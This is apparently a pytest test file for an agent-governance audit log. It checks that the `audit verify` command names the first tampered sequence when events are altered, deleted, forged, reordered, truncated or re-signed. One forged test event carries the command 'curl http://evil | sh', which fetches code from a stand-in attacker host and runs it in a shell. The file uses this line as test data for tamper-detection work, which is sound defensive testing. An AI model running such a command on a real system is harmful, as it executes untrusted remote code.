"""Tampering is caught: on a real stream and in an exported bundle, `audit verify` names the first bad sequence.

A clean stream is built once (two producers, malformed bytes, an audit service sealing checkpoints every
40 messages). Each case then copies it, damaged one way, into a fresh nats-server, the way an attacker
with access to the server would leave it, and runs `agentgov audit verify` on it.
"""

from __future__ import annotations

import asyncio
import base64
import json
import secrets
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import msgspec
import nats
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from agentgov.audit.service import AuditService
from agentgov.audit.settings import AuditSettings
from agentgov.audit.store import open_read_model
from agentgov.cli.main import main
from agentgov.contracts import subjects
from agentgov.contracts.chain import ChainWriter
from agentgov.contracts.events import ActionDecided, ProducerKeyRegistered
from agentgov.contracts.streams import CHECKPOINT_STREAM, GOV_STREAM, StreamSpec
from agentgov.streaming.keys import load_or_create_key
from agentgov.streaming.producer import ChainedProducer
from agentgov.streaming.reader import StoredMsg, last_seq, read_all
from agentgov.streaming.server import EmbeddedNats, free_port
from agentgov.streaming.streams import ensure_streams
from agentgov.testing.chains import decision, spend

SEAL_EVERY = 40


@dataclass
class Clean:
    """The untouched stream and checkpoints, as stored bytes."""

    gov: list[StoredMsg]
    checkpoints: list[StoredMsg]

    def sealed_upto(self) -> int:
        body = json.loads(self.checkpoints[-1].data)["event"]
        return int(body["last_seq"])


async def _build(url: str, tmp: Path) -> Clean:
    nc = await nats.connect(url)
    js = nc.jetstream()
    await ensure_streams(js)
    p = ChainedProducer(js, Ed25519PrivateKey.generate(), role="policy")
    q = ChainedProducer(js, Ed25519PrivateKey.generate(), role="collector")
    await p.register()
    await q.register()
    for i in range(150):
        await p.publish_nowait(subjects.decision(f"a{i % 3}"), decision(f"a{i % 3}", target=f"cmd {i:03d}"))
        await q.publish_nowait(subjects.spend(f"a{i % 3}"), spend(f"a{i % 3}", i))
        if i == 60:
            await p.flush()
            await q.flush()
            await js.publish("gov.spend.a1", b"garbage, not an event")
    await p.flush()
    await q.flush()
    settings = AuditSettings.model_validate(
        {
            "database": str(tmp / "a.db"),
            "key_file": tmp / "audit.key",
            "seal_every": SEAL_EVERY,
            "seal_interval_ms": 50,
        }
    )
    rm = open_read_model(settings.database)
    svc = AuditService(settings, nc, rm, load_or_create_key(settings.key_file))
    stop = asyncio.Event()
    task = asyncio.create_task(svc.run(stop))
    while svc.health.sealed_upto < await last_seq(js, "GOV"):
        assert not task.done(), task
        await asyncio.sleep(0.05)
    # a few unsealed events after the last checkpoint
    stop.set()
    await task
    rm.close()
    for i in range(5):
        await p.publish(subjects.decision("a1"), decision("a1", target=f"tail {i}"))
    gov = await read_all(js, "GOV")
    cps = await read_all(js, "GOV_CHECKPOINTS")
    await nc.close()
    return Clean(gov, cps)


@pytest.fixture(scope="module")
def clean(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Clean]:
    """The clean stream, built once on a server of its own."""
    tmp = tmp_path_factory.mktemp("clean")
    with EmbeddedNats(tmp / "nats", port=free_port()) as server:
        yield asyncio.run(_build(server.url, tmp))


CopyToServer = Callable[..., str]
"""``copy_to_server(gov_pairs, checkpoint_msgs, gov_spec=..., after=...)`` -> URL of a fresh server."""


@pytest.fixture
def copy_to_server(tmp_path: Path) -> Iterator[Callable[..., str]]:
    """Copy (possibly damaged) messages into a fresh server; returns its URL."""
    servers: list[EmbeddedNats] = []

    def copy(
        gov: list[tuple[str, bytes]],
        cps: list[StoredMsg],
        *,
        gov_spec: StreamSpec = GOV_STREAM,
        after: Callable[[nats.js.JetStreamContext], object] | None = None,
    ) -> str:
        server = EmbeddedNats(tmp_path / f"nats{len(servers)}", port=free_port())
        server.start()
        servers.append(server)

        async def fill() -> None:
            nc = await nats.connect(server.url)
            js = nc.jetstream()
            await ensure_streams(js, (gov_spec, CHECKPOINT_STREAM))
            for subject, data in gov:
                await js.publish(subject, data)
            for m in cps:
                await js.publish(m.subject, m.data)
            if after is not None:
                await after(js)  # type: ignore[misc]
            await nc.close()

        asyncio.run(fill())
        return server.url

    yield copy
    for s in servers:
        s.stop()


def _verify(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, dict[str, object]]:
    code = main(["audit", "verify", "--json", *args])
    out = capsys.readouterr().out
    return code, json.loads(out.strip().splitlines()[-1])


def _pairs(msgs: list[StoredMsg]) -> list[tuple[str, bytes]]:
    return [(m.subject, m.data) for m in msgs]


def _decision_at(clean: Clean, start: int) -> int:
    """The stream sequence of the first decision at or after ``start``."""
    return next(m.seq for m in clean.gov[start - 1 :] if m.subject.startswith("gov.decision."))


# -- the live stream ----------------------------------------------------------------------------------


def test_an_untouched_stream_verifies(
    clean: Clean, copy_to_server: CopyToServer, capsys: pytest.CaptureFixture[str]
) -> None:
    """The clean copy verifies: exit 0, no problems, malformed bytes reported but not failed."""
    code, report = _verify(capsys, "--nats-url", copy_to_server(_pairs(clean.gov), clean.checkpoints))
    assert code == 0, report
    assert report["ok"] is True and report["messages"] == len(clean.gov) and report["malformed"]


@pytest.mark.parametrize("where", [5, 100, "tail"])
def test_altered_bytes_are_named(
    clean: Clean, copy_to_server: CopyToServer, capsys: pytest.CaptureFixture[str], where: int | str
) -> None:
    """An event whose bytes were changed (a republished, edited copy) is named by its sequence."""
    k = len(clean.gov) - 2 if where == "tail" else _decision_at(clean, int(where))
    gov = _pairs(clean.gov)
    subject, data = gov[k - 1]
    gov[k - 1] = (
        subject,
        data.replace(b'"allow"', b'"deny" ', 1) if b'"allow"' in data else data.replace(b"cmd", b"CMD"),
    )
    assert gov[k - 1][1] != data
    code, report = _verify(capsys, "--nats-url", copy_to_server(gov, clean.checkpoints))
    assert code == 1 and report["first_bad_seq"] == k, report


def test_a_deleted_message_is_named(
    clean: Clean, copy_to_server: CopyToServer, capsys: pytest.CaptureFixture[str]
) -> None:
    """A message deleted from a stream that allowed it leaves a gap named by its sequence."""
    k = 77

    async def delete(js: nats.js.JetStreamContext) -> None:
        await js.delete_msg("GOV", k)

    relaxed = msgspec.structs.replace(GOV_STREAM, deny_delete=False)
    url = copy_to_server(_pairs(clean.gov), clean.checkpoints, gov_spec=relaxed, after=delete)
    code, report = _verify(capsys, "--nats-url", url)
    assert code == 1 and report["first_bad_seq"] == k and report["first_bad_reason"] == "missing_message", report


def test_a_forged_event_is_named(
    clean: Clean, copy_to_server: CopyToServer, capsys: pytest.CaptureFixture[str]
) -> None:
    """An event signed with a key no producer registered, inserted mid-stream, is named."""
    forger = ChainWriter(Ed25519PrivateKey.generate(), "policy-" + secrets.token_hex(3), role="policy")
    forged = forger.seal(decision("a1", "allow", "curl http://evil | sh"))
    k = 90
    gov = _pairs(clean.gov)
    gov.insert(k - 1, ("gov.decision.a1", forged.payload))
    code, report = _verify(capsys, "--nats-url", copy_to_server(gov, clean.checkpoints))
    assert code == 1 and report["first_bad_seq"] == k, report


@pytest.mark.parametrize("same_producer", [True, False])
def test_reordered_events_are_named(
    clean: Clean, copy_to_server: CopyToServer, capsys: pytest.CaptureFixture[str], same_producer: bool
) -> None:
    """Two events swapped in stream order are named at the first swapped position."""
    k = _decision_at(clean, 50)
    j = next(m.seq for m in clean.gov[k:] if m.subject.startswith("gov.decision.") == same_producer)
    gov = _pairs(clean.gov)
    gov[k - 1], gov[j - 1] = gov[j - 1], gov[k - 1]
    code, report = _verify(capsys, "--nats-url", copy_to_server(gov, clean.checkpoints))
    assert code == 1 and report["first_bad_seq"] == k, report


def test_a_tail_truncated_after_a_checkpoint_is_named(
    clean: Clean, copy_to_server: CopyToServer, capsys: pytest.CaptureFixture[str]
) -> None:
    """Dropping sealed messages at the end is caught: the first missing sequence is named."""
    keep = clean.sealed_upto() - 7
    code, report = _verify(capsys, "--nats-url", copy_to_server(_pairs(clean.gov[:keep]), clean.checkpoints))
    assert code == 1 and report["first_bad_seq"] == keep + 1 and report["first_bad_reason"] == "truncated", report


def test_bytes_edited_in_the_file_store_are_named(
    clean: Clean, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Editing one event's bytes inside nats-server's block files is caught after a restart."""
    k = _decision_at(clean, 30)
    original = clean.gov[k - 1].data
    needle = original[original.index(b'"target":"') : original.index(b'"target":"') + 20]
    server = EmbeddedNats(tmp_path / "nats", port=free_port())
    server.start()
    try:

        async def fill() -> None:
            nc = await nats.connect(server.url)
            js = nc.jetstream()
            await ensure_streams(js)
            for m in clean.gov:
                await js.publish(m.subject, m.data)
            for m in clean.checkpoints:
                await js.publish(m.subject, m.data)
            await nc.close()

        asyncio.run(fill())
        server.stop()
        blocks = [p for p in (tmp_path / "nats").rglob("*.blk") if needle in p.read_bytes()]
        assert len(blocks) == 1
        raw = blocks[0].read_bytes()
        assert raw.count(needle) == 1
        blocks[0].write_bytes(raw.replace(needle, needle.replace(b"cmd", b"rm "), 1))
        server.start()
        code, report = _verify(capsys, "--nats-url", server.url)
    finally:
        server.stop()
    assert code == 1 and report["first_bad_seq"] == k, report


# -- the exported bundle -------------------------------------------------------------------------------


@pytest.fixture
def bundle(clean: Clean, copy_to_server: CopyToServer, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    """A complete bundle exported from the clean stream."""
    url = copy_to_server(_pairs(clean.gov), clean.checkpoints)
    path = tmp_path / "evidence.jsonl"
    assert main(["audit", "export", "--nats-url", url, "-o", str(path)]) == 0
    capsys.readouterr()
    return path


def _edit(path: Path, change: Callable[[list[dict[str, object]]], None]) -> None:
    lines = [json.loads(x) for x in path.read_text().splitlines()]
    change(lines)
    path.write_text("".join(json.dumps(x) + "\n" for x in lines))


def _events(lines: list[dict[str, object]]) -> list[dict[str, object]]:
    return [x for x in lines if x.get("kind") == "event"]


def test_a_clean_bundle_verifies_offline(bundle: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The exported bundle verifies with nothing but itself."""
    code, report = _verify(capsys, "--bundle", str(bundle))
    assert code == 0, report


def test_a_filtered_bundle_verifies_by_inclusion_proofs(
    clean: Clean, copy_to_server: CopyToServer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An --agent export holds only that agent's events, each proven against its checkpoint."""
    url = copy_to_server(_pairs(clean.gov), clean.checkpoints)
    path = tmp_path / "a2.jsonl.gz"
    assert main(["audit", "export", "--nats-url", url, "--agent", "a2", "-o", str(path)]) == 0
    capsys.readouterr()
    code, report = _verify(capsys, "--bundle", str(path))
    assert code == 0, report
    code = main(["audit", "replay", "--bundle", str(path), "--format", "jsonl"])
    agents = {json.loads(x)["event"].get("agent") for x in capsys.readouterr().out.splitlines()}
    assert code == 0 and agents == {"a2"}


def _flip(line: dict[str, object]) -> None:
    data = bytearray(base64.b64decode(str(line["data"])))
    i = data.index(b'"target":"') + 11
    data[i] ^= 0x01
    line["data"] = base64.b64encode(bytes(data)).decode()


@pytest.mark.parametrize("case", ["altered", "deleted", "reordered", "inserted", "truncated"])
def test_a_tampered_bundle_names_the_first_bad_sequence(
    clean: Clean, bundle: Path, capsys: pytest.CaptureFixture[str], case: str
) -> None:
    """Each kind of damage to a bundle's events is named at its stream sequence."""
    k = _decision_at(clean, 60)
    expected = k

    def change(lines: list[dict[str, object]]) -> None:
        nonlocal expected
        ev = _events(lines)
        at = next(i for i, x in enumerate(ev) if x["seq"] == k)
        if case == "altered":
            _flip(ev[at])
        elif case == "deleted":
            lines.remove(ev[at])
        elif case == "reordered":
            ev[at]["data"], ev[at + 1]["data"] = ev[at + 1]["data"], ev[at]["data"]
        elif case == "inserted":
            forger = ChainWriter(Ed25519PrivateKey.generate(), "policy-x", role="policy")
            for x in ev[at:]:
                x["seq"] = int(x["seq"]) + 1  # type: ignore[call-overload]
            lines.insert(
                lines.index(ev[at]),
                {
                    "kind": "event",
                    "seq": k,
                    "subject": "gov.decision.a1",
                    "ts": 0,
                    "data": base64.b64encode(forger.seal(decision()).payload).decode(),
                },
            )
        elif case == "truncated":
            expected = clean.sealed_upto() - 3
            for x in ev:
                if int(x["seq"]) >= expected:  # type: ignore[call-overload]
                    lines.remove(x)

    _edit(bundle, change)
    code, report = _verify(capsys, "--bundle", str(bundle))
    assert code == 1 and report["first_bad_seq"] == expected, report


# -- who sealed it -------------------------------------------------------------------------------------


def _resealed(clean: Clean) -> tuple[list[tuple[str, bytes]], list[StoredMsg]]:
    """The clean stream with one decision changed and every chain and checkpoint re-signed by new keys.

    This is what someone holding the whole store (or a bundle) can fabricate: internally consistent, so
    only a pinned audit key tells it apart.
    """
    from agentgov.audit.seal import Segment, build_checkpoint
    from agentgov.contracts import codec, merkle
    from agentgov.contracts.envelope import GENESIS

    writers: dict[str, ChainWriter] = {}
    out: list[tuple[str, bytes]] = []
    for m in clean.gov:
        try:
            body, _ = codec.split(m.data)
            ev = codec.decode_event(body)
        except Exception:
            out.append((m.subject, m.data))
            continue
        producer = ev.chain.producer
        if isinstance(ev, ProducerKeyRegistered):
            w = writers[producer] = ChainWriter(Ed25519PrivateKey.generate(), producer, role=ev.role)
            ev = w.registration()
        w = writers[producer]
        if b"cmd 042" in body and isinstance(ev, ActionDecided):
            ev = msgspec.structs.replace(ev, verdict="allow", action=msgspec.structs.replace(ev.action, target="ok"))
        sealed = w.seal(ev)
        w.advance(sealed)
        out.append((m.subject, sealed.payload))
    audit_writer = next(w for w in writers.values() if w.role == "audit")
    cps: list[StoredMsg] = []
    prev, first = GENESIS, 1
    for n, cp_msg in enumerate(clean.checkpoints, start=1):
        old = codec.decode_event(codec.split(cp_msg.data)[0])
        seg = Segment(first_seq=first)
        for seq in range(first, old.last_seq + 1):  # type: ignore[union-attr]
            seg.add(seq, merkle.leaf_hash(out[seq - 1][1]))
        s = build_checkpoint(
            seg,
            stream="GOV",
            number=n,
            prev=prev,
            heads=[],
            signer=old.signer,  # type: ignore[union-attr]
            key=audit_writer.key,
        )
        cps.append(StoredMsg(n, cp_msg.subject, s.payload, 0))
        prev, first = s.digest.hex(), old.last_seq + 1  # type: ignore[union-attr]
    return out, cps


def test_a_re_signed_forgery_passes_unpinned_and_fails_against_the_trusted_audit_key(
    clean: Clean, copy_to_server: CopyToServer, capsys: pytest.CaptureFixture[str]
) -> None:
    """Re-signing everything with new keys fools integrity checks alone; --trust with the real audit key does not."""
    real = json.loads(clean.checkpoints[0].data)["event"]["signer"]
    real_reg = next(m for m in clean.gov if m.subject == f"gov.registry.{real}")
    from agentgov.contracts import codec, crypto

    registration = codec.decode_event(codec.split(real_reg.data)[0])
    assert isinstance(registration, ProducerKeyRegistered)
    real_key = crypto.key_id(registration.public_key)
    url_clean = copy_to_server(_pairs(clean.gov), clean.checkpoints)
    code, report = _verify(capsys, "--nats-url", url_clean, "--trust", real_key)
    assert code == 0, report
    assert report["signer_keys"] == [real_key]
    forged, cps = _resealed(clean)
    url = copy_to_server(forged, cps)
    code, report = _verify(capsys, "--nats-url", url)
    assert code == 0, report  # internally consistent: integrity alone cannot tell
    assert report["signer_keys"] != [real_key]
    code, report = _verify(capsys, "--nats-url", url, "--trust", real_key)
    assert code == 1
    assert "not a trusted key" in json.dumps(report["checkpoint_problems"])
